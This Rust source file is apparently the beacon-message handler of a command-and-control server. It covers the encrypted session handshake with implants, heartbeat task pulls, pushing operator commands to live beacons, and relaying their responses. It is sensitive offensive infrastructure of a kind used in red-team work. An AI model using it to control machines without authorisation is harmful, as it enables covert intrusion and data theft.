//! Beacon message handling: handshake, encrypted dispatch, task push.
//!
//! Listeners hand every complete frame to [`BeaconHandler::on_message`] and
//! report closed connections via [`BeaconHandler::on_close`]. Unencrypted
//! frames drive the session-establishment handshake; encrypted frames are
//! decrypted with the session key and dispatched on the inner message id.
//!
//! # Handshake
//!
//! ```text
//!             PUBKEY_REQ                     AUTH_REQ
//!   unbound ─────────────▶ pubkey sent ─────────────▶ established
//!             (mint session id,           (RSA-decrypt session key,
//!              reply N/E hex)              insert registry entry)
//! ```
//!
//! Any other message id on an unencrypted frame is rejected. The session
//! id minted at `PUBKEY_REQ` rides in the frame header of everything that
//! follows; `AUTH_REQ` keys the registry entry by the id echoed in its
//! header, which also lets datagram beacons complete the handshake across
//! ephemeral "connections".
//!
//! # Task delivery
//!
//! A task reaches its beacon through whichever path fires first: the
//! heartbeat pull inside `on_message`, or the push worker subscribed to
//! the command topic. Both paths claim tasks through the repository's
//! atomic CREATED → DISPATCHED transition, so each task is delivered
//! exactly once.

use std::sync::Arc;

use bytes::Bytes;
use prost::Message;
use thiserror::Error;
use tokio::task::JoinHandle;
use tracing::{debug, warn};

use scarab_core::bus::{MessageBus, TOPIC_BEACON_RSP, TOPIC_COMMAND_REQ};
use scarab_core::codec::{self, CodecError, Frame};
use scarab_core::crypto::{xchacha20, CipherError, KeyError, RsaKeyPair, SESSION_KEY_LEN};
use scarab_core::messages::{AuthRsaKey, CommandReq, CommandRsp, MsgId, TaskData};
use scarab_core::session::{BeaconSession, ConnContext, ConnHandle, SessionRegistry, TransportError};

use crate::store::{Store, StoreError};
use crate::BusEvent;

/// Errors surfaced to the listener; any of them closes the connection.
#[derive(Debug, Error)]
pub enum HandlerError {
    /// The frame itself could not be decoded.
    #[error("malformed frame: {0}")]
    Frame(#[from] CodecError),

    /// The inner payload is not a valid task envelope.
    #[error("malformed payload: {0}")]
    Payload(#[from] prost::DecodeError),

    /// Unencrypted frame carrying a message id outside the handshake.
    #[error("no msgid: unexpected message id {msg_id} on an unencrypted frame")]
    NoMsgId {
        /// The offending message id.
        msg_id: i32,
    },

    /// The encrypted session key could not be recovered.
    #[error("session key decrypt failed: {0}")]
    KeyExchange(#[from] KeyError),

    /// The recovered session key has the wrong length.
    #[error("session key must be {SESSION_KEY_LEN} bytes, got {len}")]
    KeyLength {
        /// Length of the rejected key.
        len: usize,
    },

    /// Encrypted frame referencing no established session.
    #[error("no session id: {session_id:#018x}")]
    UnknownSession {
        /// The unmatched session id.
        session_id: u64,
    },

    /// Session transform failure.
    #[error(transparent)]
    Cipher(#[from] CipherError),

    /// Repository failure.
    #[error(transparent)]
    Store(#[from] StoreError),

    /// Outbound send failure on the push path.
    #[error(transparent)]
    Transport(#[from] TransportError),
}

/// The beacon-plane state machine shared by every listener.
pub struct BeaconHandler {
    keys: Arc<RsaKeyPair>,
    sessions: Arc<SessionRegistry>,
    store: Arc<dyn Store>,
    bus: MessageBus<BusEvent>,
}

impl BeaconHandler {
    /// Wires the handler to its collaborators.
    pub fn new(
        keys: Arc<RsaKeyPair>,
        sessions: Arc<SessionRegistry>,
        store: Arc<dyn Store>,
        bus: MessageBus<BusEvent>,
    ) -> Self {
        Self {
            keys,
            sessions,
            store,
            bus,
        }
    }

    /// Registry of established sessions.
    pub fn sessions(&self) -> &Arc<SessionRegistry> {
        &self.sessions
    }

    /// Handles one complete frame, returning the bytes to send back.
    ///
    /// # Errors
    ///
    /// Any [`HandlerError`]; the listener closes the connection in
    /// response.
    pub fn on_message(
        &self,
        payload: &[u8],
        conn: &ConnHandle,
        ctx: &ConnContext,
    ) -> Result<Bytes, HandlerError> {
        let frame = codec::unpack(payload, conn.transport())?;
        if frame.encrypted {
            self.dispatch(&frame, conn)
        } else {
            self.handshake(&frame, conn, ctx)
        }
    }

    /// Removes the session tied to a closed connection.
    pub fn on_close(&self, ctx: &ConnContext) {
        if let Some(session_id) = ctx.session_id() {
            if let Some(session) = self.sessions.remove(session_id) {
                debug!(
                    session_id = %format_args!("{session_id:#018x}"),
                    beacon_id = %session.beacon_id,
                    "session closed"
                );
            }
        }
    }

    fn handshake(
        &self,
        frame: &Frame,
        conn: &ConnHandle,
        ctx: &ConnContext,
    ) -> Result<Bytes, HandlerError> {
        let task = TaskData::decode(frame.data.as_ref())?;
        match MsgId::try_from(task.msg_id) {
            Ok(MsgId::PubkeyReq) => self.on_pubkey_req(&task, conn, ctx),
            Ok(MsgId::AuthReq) => self.on_auth_req(frame.session_id, &task, conn),
            _ => Err(HandlerError::NoMsgId {
                msg_id: task.msg_id,
            }),
        }
    }

    /// Mints a session id for the connection and publishes the RSA key.
    fn on_pubkey_req(
        &self,
        task: &TaskData,
        conn: &ConnHandle,
        ctx: &ConnContext,
    ) -> Result<Bytes, HandlerError> {
        let session_id: u64 = rand::random();

        // A repeated key exchange on the same connection orphans the
        // previous session entry; collect it now rather than at close.
        if let Some(old) = ctx.set_session_id(session_id) {
            if self.sessions.remove(old).is_some() {
                debug!(
                    old_session_id = %format_args!("{old:#018x}"),
                    beacon_id = %task.beacon_id,
                    "re-key discarded previous session"
                );
            }
        }

        let auth_key = AuthRsaKey {
            pe: self.keys.e_hex().to_string(),
            pn: self.keys.n_hex().to_string(),
        };
        let reply = TaskData {
            msg_id: MsgId::PubkeyRsp as i32,
            beacon_id: task.beacon_id.clone(),
            task_id: 0,
            byte_value: auth_key.encode_to_vec(),
        };

        let frame = Frame::new(false, session_id, reply.encode_to_vec().into());
        Ok(codec::pack(&frame, conn.transport())?)
    }

    /// Recovers the session key and establishes the session.
    fn on_auth_req(
        &self,
        session_id: u64,
        task: &TaskData,
        conn: &ConnHandle,
    ) -> Result<Bytes, HandlerError> {
        let key = self.keys.private_decrypt(&task.byte_value)?;
        if key.len() != SESSION_KEY_LEN {
            return Err(HandlerError::KeyLength { len: key.len() });
        }

        let session = BeaconSession::new(task.beacon_id.clone(), key.into(), conn.clone());
        self.sessions.store(session_id, session);
        debug!(
            session_id = %format_args!("{session_id:#018x}"),
            beacon_id = %task.beacon_id,
            transport = %conn.transport(),
            "session established"
        );

        let reply = TaskData {
            msg_id: MsgId::AuthRsp as i32,
            beacon_id: task.beacon_id.clone(),
            task_id: 0,
            byte_value: Vec::new(),
        };
        let frame = Frame::new(false, session_id, reply.encode_to_vec().into());
        Ok(codec::pack(&frame, conn.transport())?)
    }

    /// Established data path: decrypt, branch on the inner message id,
    /// re-encrypt the reply.
    fn dispatch(&self, frame: &Frame, conn: &ConnHandle) -> Result<Bytes, HandlerError> {
        let session =
            self.sessions
                .load(frame.session_id)
                .ok_or(HandlerError::UnknownSession {
                    session_id: frame.session_id,
                })?;

        let plain = xchacha20(&session.session_key, &frame.data)?;
        let task = TaskData::decode(plain.as_slice())?;

        let reply_payload = match MsgId::try_from(task.msg_id) {
            Ok(MsgId::HeartbeatReq) => {
                let payload = self.next_task_payload(&task.beacon_id)?;
                // Heartbeats double as presence reports; a failed roster
                // update must not break the session.
                let remote = conn.peer_addr().to_string();
                if let Err(e) = self
                    .store
                    .upsert_beacon(&task.beacon_id, &remote, &task.byte_value)
                {
                    warn!(beacon_id = %task.beacon_id, error = %e, "beacon upsert failed");
                }
                payload
            }
            // HOST_INFO_RSP and every unassigned id are command responses.
            _ => {
                self.bus.publish(
                    TOPIC_BEACON_RSP,
                    BusEvent::CommandRsp(CommandRsp {
                        task_id: task.task_id,
                        beacon_id: task.beacon_id.clone(),
                        msg_id: task.msg_id,
                        byte_value: task.byte_value,
                    }),
                );
                Vec::new()
            }
        };

        let ciphertext = xchacha20(&session.session_key, &reply_payload)?;
        let reply = Frame::new(true, frame.session_id, ciphertext.into());
        Ok(codec::pack(&reply, conn.transport())?)
    }

    /// Serialized next pending task for `beacon_id`, or empty when the
    /// queue is dry.
    fn next_task_payload(&self, beacon_id: &str) -> Result<Vec<u8>, HandlerError> {
        match self.store.get_task(beacon_id) {
            Ok(task) => Ok(task.encode_to_vec()),
            Err(StoreError::NoTask { .. }) => Ok(Vec::new()),
            Err(e) => Err(e.into()),
        }
    }

    /// Spawns the push-task worker: the dual of the heartbeat pull.
    ///
    /// The worker consumes operator command requests from the bus and, for
    /// beacons with a live session, pushes the next pending task over the
    /// session's connection immediately instead of waiting for a
    /// heartbeat. Failures are logged and the worker keeps running.
    pub fn spawn_push_worker(self: &Arc<Self>) -> JoinHandle<()> {
        // Subscribe before spawning so no request published after this
        // call returns can be missed.
        let mut sub = self.bus.subscribe(TOPIC_COMMAND_REQ);
        let handler = Arc::clone(self);
        tokio::spawn(async move {
            while let Some(event) = sub.pull().await {
                let BusEvent::CommandReq(req) = event else {
                    continue;
                };
                if let Err(e) = handler.push_task(&req).await {
                    warn!(beacon_id = %req.beacon_id, error = %e, "task push failed");
                }
            }
            handler.bus.unsubscribe(&sub);
        })
    }

    async fn push_task(&self, req: &CommandReq) -> Result<(), HandlerError> {
        // No live session: the task stays CREATED in the store and the
        // next heartbeat delivers it.
        let Some((session_id, session)) = self.sessions.find_by_beacon(&req.beacon_id) else {
            debug!(beacon_id = %req.beacon_id, "no live session, task deferred to heartbeat");
            return Ok(());
        };

        let task = match self.store.get_task(&req.beacon_id) {
            Ok(task) => task,
            Err(StoreError::NoTask { .. }) => return Ok(()),
            Err(e) => return Err(e.into()),
        };

        let ciphertext = xchacha20(&session.session_key, &task.encode_to_vec())?;
        let frame = Frame::new(true, session_id, ciphertext.into());
        let wire = codec::pack(&frame, session.transport())?;
        session.conn.send(wire).await?;

        debug!(
            beacon_id = %req.beacon_id,
            task_id = task.task_id,
            transport = %session.transport(),
            "task pushed"
        );
        Ok(())
    }
}
